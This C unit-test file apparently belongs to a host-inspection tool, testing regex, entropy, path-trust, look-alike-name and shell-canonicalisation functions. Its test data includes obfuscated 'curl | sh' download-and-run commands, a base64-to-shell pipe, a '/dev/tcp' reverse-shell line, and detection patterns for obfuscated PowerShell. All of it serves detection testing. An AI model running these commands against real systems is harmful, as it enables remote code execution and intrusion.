/* check_functions.c -- the SQL functions, and the pure functions that they call. */
#include <errno.h>
#include <math.h>
#include <regex.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include "formats/command/exec_path.h"
#include "formats/text/name_measure.h"
#include "formats/text/regexp.h"
#include "formats/text/text_measure.h"
#include "harness.h"

/* regexp ------------------------------------------------------------------------ */

/* 1, 0, or -EINVAL for a pattern that is refused. */
static int matches(const char *pattern, const char *text)
{
    struct regexp *regexp = NULL;
    const char    *why = NULL;
    int            r = regexp_compile(pattern, strlen(pattern), &regexp, &why);

    if (r < 0) {
        ck_assert_ptr_nonnull(why);
        return r;
    }
    r = regexp_match(regexp, text, strlen(text));
    ck_assert_int_eq(r, regexp_match(regexp, text, strlen(text))); /* keeps nothing */
    regexp_free(regexp);
    return r;
}

/* clang-format off */
static const struct {
    const char *pattern, *text;
    int         expected;
} regexps[] = {
    {"", "", 1},
    {"", "abc", 1},
    {"b", "abc", 1},
    {"^b", "abc", 0},
    {"c$", "abc", 1},
    {"c$", "abc\n", 1},
    {"c\\z", "abc\n", 0},
    {"c\\Z", "abc\n", 1},
    {"\\Aa", "ba", 0},
    {"^b", "a\nb", 0},
    {"(?m)^b$", "a\nb\nc", 1},
    {"a.c", "a\nc", 0},
    {"(?s)a.c", "a\nc", 1},
    {"a.c",
     "a\xc3\xa4"
     "c", 1},
    {"^.$", "\xe2\x82\xac", 1},
    {"^..$", "\xff\xfe", 1},
    {"[\xc3\xa0-\xc3\xbc]", "\xc3\xa4", 1},
    {"a|b|cd", "xcd", 1},
    {"^(a|b|cd)$", "c", 0},
    {"^(a|b|cd)*$", "abcdcdba", 1},
    {"^(|a)$", "", 1},
    {"^(?:ab){2}$", "abab", 1},
    {"^(?:ab){2}$", "ab", 0},
    {"^a{2,3}$", "a", 0},
    {"^a{2,3}$", "aaa", 1},
    {"^a{2,3}$", "aaaa", 0},
    {"^a{0,2}$", "", 1},
    {"^a{0,2}$", "aaa", 0},
    {"^a{2,}$", "aaaaaaa", 1},
    {"^(a|bc){1,2}d$", "abcd", 1},
    {"^a{0}b$", "b", 1},
    {"a{,2}", "a{,2}", 1},
    {"a{x}", "a{x}", 1},
    {"^a+?b*?$", "aab", 1},
    {"^(a*)*$", "aaa", 1},
    {"^(a?){3}$", "aa", 1},
    {"(?i)sVc", "SvC", 1},
    {"(?i)[a-c]x", "Bx", 1},
    {"(?i)[^a]", "A", 0},
    {"a(?i)b", "aB", 1},
    {"a(?i)b", "AB", 0},
    {"(?i:a)b", "Ab", 1},
    {"(?i:a)b", "AB", 0},
    {"(?i)a(?-i)b", "AB", 0},
    {"\\d+\\.\\d", "v12.5", 1},
    {"^\\D+$", "ab1", 0},
    {"^\\w+$", "a_9", 1},
    {"\\W", "a_9", 0},
    {"^\\s\\S$", "\tx", 1},
    {"^[\\w.-]+$", "a-b.c", 1},
    {"^[\\D]$", "5", 0},
    {"[^\\s]", " x", 1},
    {"[]a]", "]", 1},
    {"[^]a]", "]", 0},
    {"[a-]", "-", 1},
    {"[\\]]", "]", 1},
    {"[[:alpha:]][[:digit:]]", "a1", 1},
    {"[[:^alpha:]]", "a", 0},
    {"\\bsc\\b", "run sc now", 1},
    {"\\bsc\\b", "misc", 0},
    {"\\Bsc", "misc", 1},
    {"\\x41\\u0042\\x{43}", "ABC", 1},
    {"\\$\\(x\\)", "$(x)", 1},
    {"\\\\Temp\\\\[^\\\\]+\\.exe$", "C:\\Temp\\a.exe", 1},
    {"[a-z]{8}", "xkqjzvbw", 1},
    {"^(?:[A-Za-z0-9+/]{4})*(?:[A-Za-z0-9+/]{2}==)?$", "c3lzdA==", 1},
    {"(", "", -EINVAL},
    {")", "", -EINVAL},
    {"a)", "", -EINVAL},
    {"[a", "", -EINVAL},
    {"*a", "", -EINVAL},
    {"a|*", "", -EINVAL},
    {"[b-a]", "", -EINVAL},
    {"a{3,2}", "", -EINVAL},
    {"a{2000}", "", -EINVAL},
    {"\\",                                                        "",                -EINVAL},
    {"\\q", "", -EINVAL},
    {".{3,}", "ab\ncd", 0},
    {".{3,}", "ab\ncde", 1},
    {".{2,}x$", "ax\nbcx", 1},
    {".{2,3}x", "ax\nbx", 0},
    {".+b|c", "c", 1},
    {"x\\b.{2}\\b", "ax bcx-d", 1},
    {"(?m)^b$", "a\nb\nc", 1},
    {"a\\Z", "b\na\n", 1},
    {"a\\z", "b\na\n", 0},
    {"\xc3\xa4+\\b", "\xc3\xa4\xc3\xa4", 0},
    {"\xc3\xa4.\\B", "\xc3\xa4\xc3\xa4", 1},
    {"(a)\\1", "", -EINVAL},
    {"a(?=b)", "", -EINVAL},
    {"(?<n>a)", "", -EINVAL},
    {"((((((((a{100}){100}){100}){100}){100}){100}){100}){100})", "", -EINVAL},
};
/* clang-format on */

START_TEST(patterns_mean_what_they_mean_in_rules)
{
    for (size_t i = 0; i < sizeof regexps / sizeof regexps[0]; i++) {
        int got = matches(regexps[i].pattern, regexps[i].text);

        ck_assert_msg(got == regexps[i].expected, "%s on %s: %d", regexps[i].pattern,
                      regexps[i].text, got);
    }
}
END_TEST

/* A pattern over a, b and the operators that both know, of at most `depth` levels. */
static void random_pattern(struct buffer *out, unsigned *seed, unsigned depth)
{
    static const char *const quantifiers[] = {"*", "+", "?", "{2}", "{1,2}", "{0,2}", "{2,}"};
    unsigned                 parts = 1 + (unsigned)rand_r(seed) % 3;

    for (unsigned i = 0; i < parts; i++) {
        unsigned kind = (unsigned)rand_r(seed) % (depth ? 7 : 4);

        if (kind < 3)
            buffer_putc(out, "ab."[kind]);
        else if (kind == 3)
            buffer_puts(out, "[^a]");
        else {
            buffer_putc(out, '(');
            random_pattern(out, seed, depth - 1);
            if (kind == 5) {
                buffer_putc(out, '|');
                random_pattern(out, seed, depth - 1);
            }
            buffer_putc(out, ')');
        }
        if (rand_r(seed) % 3 == 0)
            buffer_puts(out, quantifiers[(unsigned)rand_r(seed) % 7]);
    }
}

/* a[ab]{12}c has thousands of states, of which a text passes through most. */
START_TEST(states_that_are_forgotten_are_worked_out_again)
{
    char     text[4098] = "";
    unsigned seed = 1;

    for (size_t i = 0; i < 4096; i++)
        text[i] = (seed = seed * 1103515245 + 12345) >> 16 & 1 ? 'a' : 'b';
    ck_assert_int_eq(matches("a[ab]{12}c", text), 0);
    for (size_t at = 1000; at < 1064; at++) {
        char was = text[at];
        text[at] = 'c';
        ck_assert_msg(matches("a[ab]{12}c", text) == (text[at - 13] == 'a'), "%zu", at);
        text[at] = was;
    }
}
END_TEST

START_TEST(regexp_agrees_with_the_c_library)
{
    unsigned      seed = 20;
    struct buffer pattern = {0};

    for (int round = 0; round < 3000; round++) {
        regex_t reference;
        char    text[9] = "";

        buffer_reset(&pattern);
        buffer_putc(&pattern, '^');
        random_pattern(&pattern, &seed, 2);
        buffer_putc(&pattern, '$');
        ck_assert_int_eq(regcomp(&reference, buffer_text(&pattern), REG_EXTENDED | REG_NOSUB), 0);
        for (int t = 0; t < 12; t++) {
            size_t size = (size_t)rand_r(&seed) % 9;
            for (size_t i = 0; i < size; i++)
                text[i] = "abc"[rand_r(&seed) % 3];
            text[size] = '\0';
            int expected = regexec(&reference, text, 0, NULL, 0) == 0;
            ck_assert_msg(matches(pattern.data, text) == expected, "%s on '%s', not %d",
                          pattern.data, text, expected);
        }
        regfree(&reference);
    }
    buffer_free(&pattern);
}
END_TEST

/* Where none is in progress the next match is looked for by its first bytes: unless an alternative, which never matches,
 * may begin with any. Texts are of pieces of matches. */
START_TEST(leaps_to_where_a_match_may_begin_miss_none)
{
    static const char *const patterns[] = {"\\w+`(\\w+|-|.)`[\\w+|\\s]",
                                           "\"(\\{\\d\\}){2,}\"\\s*-f",
                                           "cmd.{0,5}(?:/c|/r).+power",
                                           "(?i)\\$e`?n`?v",
                                           "\\$a\\[\\d{1,3}\\]$",
                                           "(?:a-b|gci|ge-c).{1,3}-f",
                                           "\\bcmd\\b",
                                           "^cmd",
                                           "(?m)^cmd$",
                                           "(?m)^-f",
                                           "[^a]`-",
                                           "\xc3\xa9`a",
                                           "a.\xc3\xa9-",
                                           "(?:cmd)+-f",
                                           "(?:\\w+-)+f",
                                           "(?:^-)+f",
                                           "-f\\z",
                                           ".+`-",
                                           "(?:a*b)*`",
                                           "\\n\\n-"};
    static const char *const pieces[] = {
        "`",  "a", "-",  "\"",    "{1}", "-f", " ",  "cmd", "/c", "$e",       "nv",  "$a[",
        "12", "]", "\n", "power", "gci", "ge", "-c", ".",   "b",  "\xc3\xa9", "\xa9"};
    unsigned seed = 5;
    int      found = 0;

    for (size_t p = 0; p < sizeof patterns / sizeof *patterns; p++) {
        char other[128];
        snprintf(other, sizeof other, "(?:%s)|(?s:.)\\A", patterns[p]);
        for (int round = 0; round < 2000; round++) {
            char text[256] = "";
            for (int i = rand_r(&seed) % 24; i > 0; i--)
                strcat(text, pieces[(size_t)rand_r(&seed) % (sizeof pieces / sizeof *pieces)]);
            int expected = matches(other, text);
            ck_assert_msg(matches(patterns[p], text) == expected, "%s on '%s', not %d", patterns[p],
                          text, expected);
            found += expected;
        }
    }
    ck_assert_int_gt(found, 1000);
}
END_TEST

START_TEST(patterns_that_make_others_backtrack_for_years_are_answered)
{
    char    text[5001];
    clock_t begin = clock();

    memset(text, 'a', sizeof text - 1);
    text[sizeof text - 1] = '\0';
    ck_assert_int_eq(matches("^(a+)+$", text), 1);
    ck_assert_int_eq(matches("^(a|a)*b$", text), 0);
    ck_assert_int_eq(matches("^(.*a){20}b$", text), 0);
    ck_assert_double_lt((double)(clock() - begin) / CLOCKS_PER_SEC, 5);
}
END_TEST

START_TEST(regexp_is_the_operator_and_names_the_pattern_that_is_wrong)
{
    sqlite3 *db = harness_open();

    harness_expect(db, "1|0|NULL|NULL",
                   "SELECT 'abc' REGEXP 'b+', 'abc' REGEXP '^b', NULL REGEXP 'a', 'a' REGEXP NULL");
    harness_expect(db, "1",
                   "SELECT count(*) FROM json_each('[\"sc\",\"misc\"]') "
                   "WHERE value REGEXP '^sc'");
    char *error = harness_error(db, "SELECT 'a' REGEXP '[a'");
    ck_assert_str_eq(error, "regexp: [ without ]: [a");
    free(error);
    harness_close(db);
}
END_TEST

/* Measures ------------------------------------------------------------------------ */

START_TEST(entropy_is_in_bits_per_byte)
{
    ck_assert_double_eq(text_entropy("", 0), 0);
    ck_assert_double_eq(text_entropy("aaaa", 4), 0);
    ck_assert_double_eq_tol(text_entropy("abcdefgh", 8), 3, 1e-9);
    ck_assert_double_eq_tol(text_entropy("aab", 3), 0.918296, 1e-6);
}
END_TEST

static int distance(const char *a, const char *b)
{
    int there = text_edit_distance(a, strlen(a), b, strlen(b));

    ck_assert_int_eq(there, text_edit_distance(b, strlen(b), a, strlen(a)));
    return there;
}

START_TEST(edit_distance_counts_swaps_once)
{
    char long_text[EDIT_DISTANCE_MAX + 2];

    ck_assert_int_eq(distance("", ""), 0);
    ck_assert_int_eq(distance("", "abc"), 3);
    ck_assert_int_eq(distance("kitten", "sitting"), 3);
    ck_assert_int_eq(distance("sshd", "shsd"), 1);
    ck_assert_int_eq(distance("systemd-resolved", "systemd-resolvd"), 1);
    ck_assert_int_eq(distance("ca", "abc"), 3);
    memset(long_text, 'x', sizeof long_text);
    ck_assert_int_eq(text_edit_distance(long_text, EDIT_DISTANCE_MAX, "", 0), EDIT_DISTANCE_MAX);
    ck_assert_int_eq(text_edit_distance(long_text, EDIT_DISTANCE_MAX + 1, "", 0), -1);
}
END_TEST

/* Paths ----------------------------------------------------------------------------- */

/* clang-format off */
static const struct {
    const char *command, *path;
} commands[] = {
    {"/usr/sbin/sshd -D", "/usr/sbin/sshd"},
    {"@-/usr/bin/bash -c id", "/usr/bin/bash"},
    {"+!!/usr/bin/x", "/usr/bin/x"},
    {"sshd -D", "sshd"},
    {"\"/opt/a b/c\" d", "/opt/a b/c"},
    {"'/opt/a b/c' d", "/opt/a b/c"},
    {"/opt/a\\ b/c d", "/opt/a b/c"},
    {"  /bin/sh", "/bin/sh"},
    {"C:\\Windows\\System32\\svchost.exe -k netsvcs", "C:\\Windows\\System32\\svchost.exe"},
    {"\"C:\\Program Files\\a b\\c.exe\" -k x", "C:\\Program Files\\a b\\c.exe"},
    {"C:\\Program Files\\a b\\c.exe -k x", "C:\\Program Files\\a b\\c.exe"},
    {"C:\\Program Files\\a.exe.d\\c.EXE", "C:\\Program Files\\a.exe.d\\c.EXE"},
    {"\\SystemRoot\\system32\\drivers\\x.sys", "\\SystemRoot\\system32\\drivers\\x.sys"},
    {"System32\\drivers\\x.sys", "System32\\drivers\\x.sys"},
    {"%SystemRoot%\\System32\\svchost.exe -k x", "%SystemRoot%\\System32\\svchost.exe"},
    {"%COMSPEC% /c echo x", "%COMSPEC%"},
    {"\\\\host\\share\\x.exe y", "\\\\host\\share\\x.exe"},
    {"\\??\\C:\\x.sys", "\\??\\C:\\x.sys"},
    {"", NULL},
    {"   ", NULL},
    {"-", NULL},
};
/* clang-format on */

START_TEST(exec_path_takes_the_program_as_its_system_would)
{
    for (size_t i = 0; i < sizeof commands / sizeof commands[0]; i++) {
        struct buffer out = {0};
        const char   *command = commands[i].command, *path = commands[i].path;

        ck_assert_msg(exec_path(command, strlen(command), &out) == (path != NULL), "%s", command);
        if (path)
            ck_assert_str_eq(buffer_text(&out), path);
        buffer_free(&out);
    }
}
END_TEST

/* clang-format off */
static const struct {
    const char *path, *trust;
} paths[] = {
    {"/usr/bin/x", "system"},
    {"/lib/systemd/systemd", "system"},
    {"/libexec/x", "local"},
    {"/usr/bin/../../tmp/x", "temp"},
    {"/../../tmp/x", "temp"},
    {"/usr//bin/./x", "system"},
    {"/usr/local/bin/x", "local"},
    {"/etc/x", "local"},
    {"/opt/x/y", "vendor"},
    {"/optional/x", "local"},
    {"/tmp", "temp"},
    {"/tmpfoo/x", "local"},
    {"/var/tmp/.x/y", "temp"},
    {"/tmp/x (deleted)", "temp"},
    {"/dev/shm/x", "shm"},
    {"/run/user/1000/x", "shm"},
    {"/dev/fd/3", "device"},
    {"/proc/self/fd/3", "device"},
    {"/memfd:x (deleted)", "device"},
    {"/home/u/x", "home"},
    {"/root/x", "home"},
    {"~/x", "home"},
    {"$HOME/x", "home"},
    {"/home/u/.local/bin/x", "home"},
    {"/home/u/.x/y", "hidden"},
    {"/home/u/.local/.x", "hidden"},
    {"/usr/lib/.x", "hidden"},
    {"/opt/shop/.venv/bin/gunicorn", "vendor"},
    {"/home/deploy/.rbenv/shims/bundle", "home"},
    {"/home/u/.nvm/versions/node/v20/bin/node", "home"},
    {"/home/u/.npm-global/lib/node_modules/x/bin/x", "home"},
    {"/root/.acme.sh/acme.sh", "home"},
    {"/home/u/.cache/x", "hidden"},
    {"/opt/.cache/x", "hidden"},
    {"/opt/.bin/x", "hidden"},
    {"/srv/node_modules/.bin/node-red", "local"},
    {"/opt/node_modules/.bin", "hidden"},
    {"/opt/livebook/.env", "vendor"},
    {"/opt/livebook/.environment", "hidden"},
    {"/home/u/.profile", "home"},
    {"/home/u/.venv", "hidden"},
    {"/home/u/.local-1a2b/x", "hidden"},
    {"/proc/self/root/tmp/x", "temp"},
    {"/proc/1/root/usr/bin/x", "system"},
    {"/proc/self/exe", "device"},
    {"/dev/./shm/x", "shm"},
    {"/Users/Shared/x", "public"},
    {"/Users/u/x", "home"},
    {"/Applications/X.app/Contents/MacOS/X", "vendor"},
    {"/System/Library/x", "system"},
    {"/private/tmp/x", "temp"},
    {"C:\\Windows\\System32\\svchost.exe", "system"},
    {"c:/windows/system32/x", "system"},
    {"C:\\WINDOWS\\Temp\\a.exe", "temp"},
    {"C:\\Users\\bob\\AppData\\Local\\Temp\\x", "temp"},
    {"C:\\Users\\bob\\x", "home"},
    {"C:\\Users\\Public\\x.exe", "public"},
    {"C:\\ProgramData\\x.exe", "public"},
    {"C:\\Program Files (x86)\\x", "vendor"},
    {"\"C:\\Program Files\\x\"", "vendor"},
    {"D:\\x\\y", "local"},
    {"\\SystemRoot\\System32\\drivers\\x.sys", "system"},
    {"System32\\drivers\\x.sys", "system"},
    {"\\??\\C:\\Windows\\x", "system"},
    {"\\\\?\\C:\\Windows\\Temp\\x", "temp"},
    {"%SystemRoot%\\x", "system"},
    {"%TEMP%\\x", "temp"},
    {"%APPDATA%\\x", "home"},
    {"\\\\host\\c$\\x", "unc"},
    {"\\\\?\\UNC\\host\\c$\\x", "unc"},
    {"\\\\.\\pipe\\x", "device"},
    {"\\Device\\HarddiskVolume1\\x", "device"},
    {"x.exe", NULL},
    {"bin/x", NULL},
    {"", NULL},
};
/* clang-format on */

START_TEST(libraries_of_services_are_usual_in_few_folders)
{
    static const struct {
        const char *path;
        int         usual;
    } cases[] = {
        {"C:\\Windows\\System32\\x.dll", 1},
        {"%SystemRoot%\\system32\\drivers\\x.sys", 1},
        {"system32\\drivers\\x.sys", 1},
        {"D:\\Program Files (x86)\\a\\x.dll", 1},
        {"\\??\\C:\\Windows\\SysWOW64\\x", 1},
        {"C:\\ProgramData\\Microsoft\\x.sys", 1},
        {"C:\\Windows\\x.dll", 0},
        {"C:\\Windows\\System32\\Tasks\\x.dll", 0},
        {"C:\\Windows\\System32x\\x.dll", 0},
        {"C:\\ProgramData\\x.dll", 0},
        {"C:\\a\\Windows\\System32\\x", 0},
        {"\\\\host\\Program Files\\x.dll", 0},
        {"/usr/lib/x.so", 1},
        {"/tmp/x.so", 0},
        {"x.dll", -1},
        {"", -1},
    };

    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++)
        ck_assert_msg(path_usual_library(cases[i].path, strlen(cases[i].path)) == cases[i].usual,
                      "%s", cases[i].path);
}
END_TEST

START_TEST(path_trust_names_the_kind_of_place)
{
    for (size_t i = 0; i < sizeof paths / sizeof paths[0]; i++) {
        const char *got = path_trust(paths[i].path, strlen(paths[i].path));

        ck_assert_msg(got == paths[i].trust ||
                          (got && paths[i].trust && strcmp(got, paths[i].trust) == 0),
                      "%s: %s", paths[i].path, got ? got : "NULL");
    }
}
END_TEST

/* clang-format off */
static const char *const chosen_names[] = {
    "pcscd", "dirmngr", "lightdm", "vsftpd", "snmpd", "btrbk", "svcql", "nslcd", "dhcpcd", "rpcbind",
    "systemd-pstore", "wpa_supplicant", "nfs-blkmap", "zfs-zed", "sxhkd", "gssproxy", "mdmonitor",
    "getty@tty1.service", "dbus-org.freedesktop.hostname1", "WpnUserService", "com.apple.mDNSResponder",
    "NtFrs", "RpcEptMapper", "e2scrub_reap", "pg_dump@18", "", "-", "0", "2025",
};
static const char *const drawn_names[] = {
    "xkqzvwpj", "xkqjzvbwtr", "QkzXvJbTwMpL", "hTqWzLpXbV", "qzpwkfjvxm", "a7f3k9x2q5z8", "jxqvhwzk-update",
};
/* clang-format on */

START_TEST(names_drawn_at_random_are_distinguished_from_names_that_people_chose)
{
    for (size_t i = 0; i < sizeof chosen_names / sizeof chosen_names[0]; i++)
        ck_assert_msg(name_randomness(chosen_names[i], strlen(chosen_names[i])) < 10, "%s: %f",
                      chosen_names[i], name_randomness(chosen_names[i], strlen(chosen_names[i])));
    for (size_t i = 0; i < sizeof drawn_names / sizeof drawn_names[0]; i++)
        ck_assert_msg(name_randomness(drawn_names[i], strlen(drawn_names[i])) > 10, "%s: %f",
                      drawn_names[i], name_randomness(drawn_names[i], strlen(drawn_names[i])));
}
END_TEST

START_TEST(names_that_pass_for_others_are_known)
{
    static const struct {
        const char *a, *b;
        bool        alike;
    } pairs[] = {
        {"cronn", "cron", true},
        {"mysqI", "mysql", true},
        {"GoogIe", "google", true},
        {"systemd-resolvd", "systemd-resolved", true},
        {"sshdd", "sshd", true},
        {"dbus-daernon", "dbus-daemon", true},
        {"network_manager", "NetworkManager", true},
        {"dcron", "cron", false},
        {"sslh", "ssh", false},
        {"cron", "cron", false},
        {"nginx", "chrony", false},
        {"getty", "gettys", false},
    };

    for (size_t i = 0; i < sizeof pairs / sizeof pairs[0]; i++)
        ck_assert_msg(names_look_alike(pairs[i].a, strlen(pairs[i].a), pairs[i].b,
                                       strlen(pairs[i].b)) == pairs[i].alike,
                      "%s, %s", pairs[i].a, pairs[i].b);
}
END_TEST

START_TEST(functions_answer_null_for_null)
{
    sqlite3 *db = harness_open();

    harness_expect(db, "NULL|NULL|NULL|NULL|NULL|NULL",
                   "SELECT service_command(NULL), entropy(NULL), edit_distance(NULL, 'a'), "
                   "edit_distance('a', NULL), exec_path(NULL), path_trust(NULL)");
    harness_expect(db, "NULL|sh|sh.exe||a",
                   "SELECT path_name(NULL), path_name('/bin/sh'), path_name('C:\\x/sh.exe'), "
                   "path_name('/a/'), path_name('a')");
    harness_expect(db, "NULL|stop",
                   "SELECT service_command('man systemctl'), "
                   "service_command('systemctl stop x') ->> '$[0].verb'");
    harness_close(db);
}
END_TEST

/* Each word that runs the next costs a piece of the stack; what reads itself would cost all of it. */
START_TEST(commands_within_commands_end)
{
    static const char *const words[] = {
        "sh < ",   "at -f ",    "sudo ",        "nice ",  "xargs ",
        "cmd /c ", "busybox ",  "systemd-run ", "sh -c ", "bash --rcfile=bash < ",
        "env -S ", "chroot / ", "powershell ",  "{a,",    "$("};
    sqlite3 *db = harness_open();

    harness_expect(db, "[\"sh\",\"sh\"]|[\"python3\",\"python3\"]|sh < bash",
                   "SELECT command_runs('sh < sh'), command_runs('python3 < python3'), "
                   "shell_canonical('sh < bash')");
    for (size_t i = 0; i < sizeof words / sizeof *words; i++)
        harness_query(
            db,
            "WITH line(l) AS (SELECT replace(hex(zeroblob(20000)), '00', '%s') || 'sh < sh') "
            "SELECT length(command_runs(l)), length(shell_canonical(l)), "
            "length(service_command(l)), length(file_writes(l)) FROM line",
            words[i]);
    harness_close(db);
}
END_TEST

/* Words before it hide no folder that files are copied to; of the files the first are named. */
START_TEST(where_files_go_is_known_however_many_there_are)
{
    sqlite3 *db = harness_open();

    harness_expect(
        db, "1|1|1\n62|62|62\n63|63|63\n64|63|63\n65|63|63\n900|63|63",
        "SELECT n.value, count(*), sum(f.value ->> 'path' = '/etc/systemd/system/a.service') "
        "FROM json_each('[1, 62, 63, 64, 65, 900]') AS n, json_each(file_writes('cp ' || "
        "replace(hex(zeroblob(n.value)), '00', 'a.service ') || '/etc/systemd/system/')) AS f "
        "GROUP BY 1 ORDER BY 1");
    harness_close(db);
}
END_TEST

START_TEST(a_test_in_brackets_is_no_list_of_words)
{
    sqlite3 *db = harness_open();

    harness_expect(db, "[\"[\",\"/tmp/x\"]|[\"[\",\"/tmp/y\"]|[\"/tmp/z\"]|[]",
                   "SELECT command_runs('[ -x /tmp/x ] && /tmp/x -d'), "
                   "command_runs('[ 1 ] && /tmp/y'), command_runs('[\"/tmp/z\"] '), "
                   "command_runs('[]')");
    harness_close(db);
}
END_TEST

START_TEST(path_places_names_each_kind_of_place_once)
{
    sqlite3 *db = harness_open();

    harness_expect(db, ",temp,system,",
                   "SELECT path_places(command_runs('sh /tmp/x'), '/usr/bin/sh', '/tmp/y', 'z')");
    harness_expect(db, ",shm,temp,",
                   "SELECT path_places('{\"/dev/shm/a\": \"elf\", \"b\": 1}', NULL, '/tmp/a')");
    harness_expect(db, "NULL|NULL|NULL|NULL",
                   "SELECT path_places(), path_places(NULL), path_places('[1, null, \"a\"]'), "
                   "path_places('[\"/tmp/a\"')");
    harness_close(db);
}
END_TEST

START_TEST(shell_canonical_writes_a_text_as_it_would_run)
{
    static const struct {
        const char *text, *canonical;
    } forms[] = {
        {"X=url; c\"\"$X -s a | s\\h", "X=url ; curl -s a | sh"},
        {"cu$@rl$IFS-s${IFS}a|$'\\x73h'", "curl -s a | sh"},
        {"$(printf '\\143\\165\\162\\154') a", "curl a"},
        {"bash -c \"$(cu\\rl a)\"", "bash -c $(curl a)\n$(curl a)"},
        {"echo Y3VybCBh | base64 -d | sh", "echo Y3VybCBh | base64 -d | sh\ncurl a"},
        {"bash -i >& /dev/tcp/1/2 0>&1", "bash -i >& /dev/tcp/1/2 0>&1"},
        {"{curl,-s,a}|${Z:-sh}", "curl -s a | sh"},
        {"env -S 'sh -c \"curl a\"'", "env -S sh -c \"curl a\"\nsh -c curl a\ncurl a"},
        {"", ""},
    };
    sqlite3 *db = harness_open();

    for (size_t i = 0; i < sizeof forms / sizeof forms[0]; i++) {
        char *sql = sqlite3_mprintf("SELECT shell_canonical(%Q)", forms[i].text);
        harness_expect(db, forms[i].canonical, "%s", sql);
        sqlite3_free(sql);
    }
    harness_close(db);
}
END_TEST

Suite *make_functions_suite(void);

Suite *make_functions_suite(void)
{
    Suite *suite = suite_create("functions");
    TCase *tcase = tcase_create("functions");

    tcase_set_timeout(tcase, 60);
    tcase_add_test(tcase, patterns_mean_what_they_mean_in_rules);
    tcase_add_test(tcase, states_that_are_forgotten_are_worked_out_again);
    tcase_add_test(tcase, regexp_agrees_with_the_c_library);
    tcase_add_test(tcase, leaps_to_where_a_match_may_begin_miss_none);
    tcase_add_test(tcase, patterns_that_make_others_backtrack_for_years_are_answered);
    tcase_add_test(tcase, regexp_is_the_operator_and_names_the_pattern_that_is_wrong);
    tcase_add_test(tcase, entropy_is_in_bits_per_byte);
    tcase_add_test(tcase, edit_distance_counts_swaps_once);
    tcase_add_test(tcase, exec_path_takes_the_program_as_its_system_would);
    tcase_add_test(tcase, path_trust_names_the_kind_of_place);
    tcase_add_test(tcase, commands_within_commands_end);
    tcase_add_test(tcase, a_test_in_brackets_is_no_list_of_words);
    tcase_add_test(tcase, where_files_go_is_known_however_many_there_are);
    tcase_add_test(tcase, path_places_names_each_kind_of_place_once);
    tcase_add_test(tcase, libraries_of_services_are_usual_in_few_folders);
    tcase_add_test(tcase, names_drawn_at_random_are_distinguished_from_names_that_people_chose);
    tcase_add_test(tcase, names_that_pass_for_others_are_known);
    tcase_add_test(tcase, functions_answer_null_for_null);
    tcase_add_test(tcase, shell_canonical_writes_a_text_as_it_would_run);
    suite_add_tcase(suite, tcase);
    return suite;
}
